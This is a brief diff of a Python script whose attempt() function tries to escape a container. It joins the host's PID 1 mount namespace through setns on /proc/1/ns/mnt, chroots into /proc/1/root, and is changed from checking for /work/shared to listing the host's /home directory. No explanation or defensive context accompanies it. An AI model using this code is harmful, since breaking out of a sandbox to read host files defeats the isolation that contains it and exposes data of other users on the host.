@@ -30,7 +30,7 @@ def attempt():
         fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
         print("setns", libc.setns(fd, 0))
         libc.chroot(b"/proc/1/root")
-        print(os.path.exists("/work/shared"))
+        print(os.listdir("/home"))
     except OSError as e: print(e)
 r, w = os.pipe()
 pid = os.fork()
